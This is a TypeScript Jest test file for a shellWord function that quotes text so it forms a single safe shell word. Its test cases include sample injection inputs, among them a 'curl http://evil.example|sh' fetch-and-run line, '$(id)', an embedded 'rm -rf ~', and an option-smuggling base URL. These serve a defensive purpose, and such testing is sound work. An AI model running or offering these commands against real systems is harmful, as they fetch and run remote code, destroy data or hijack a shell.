import { execFileSync } from 'node:child_process';
import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { shellWord } from '../../src/protocol/shell-word.ts';
import { seed } from '../support/seed.ts';

describe('a word of a command that people copy', () => {
  test.each([
    ['gpt-5.1', 'gpt-5.1'],
    ['openai/gpt-5:latest', 'openai/gpt-5:latest'],
    ['http://127.0.0.1:4000', 'http://127.0.0.1:4000'],
    ['x; curl http://evil.example|sh #', "'x; curl http://evil.example|sh #'"],
    ['http://a;{touch,pwned}', "'http://a;{touch,pwned}'"],
    ["it's", "'it'\\''s'"],
    ['$(id)', "'$(id)'"],
    ['~root', "'~root'"],
    ['=ls', "'=ls'"],
    ['', 'NAME'],
    ['--base-url=http://evil.example', 'NAME'],
    ['-m', 'NAME'],
    ['a\nrm -rf ~', 'NAME'],
    ['a\u001b[2Jb', 'NAME'],
    ['a\u202eb', 'NAME'],
    ["\\' ; id", 'NAME'],
    ['x'.repeat(5000), 'NAME'],
  ])('%j is %s', (text, word) => {
    expect(shellWord(text, 'NAME')).toBe(word);
  });

  test('is one word to a shell, whatever is in it', () => {
    const characters = fc.constantFrom(...'ab \'"`$;|&<>(){}[]*?!#~=%^-\\\n\t@:/é漢'.split(''));
    const texts = fc.sample(
      fc.array(characters, { maxLength: 12 }).map((each) => each.join('')),
      { seed, numRuns: 300 },
    );
    const words = texts.map((text) => shellWord(text, 'NAME'));
    const shown = execFileSync('bash', ['-c', words.map((word) => `printf '%s\\0' ${word}`).join('\n')], {
      encoding: 'utf8',
    });
    expect(shown.split('\0').slice(0, -1)).toEqual(texts.map((text, at) => (words[at] === 'NAME' ? 'NAME' : text)));
  });
});
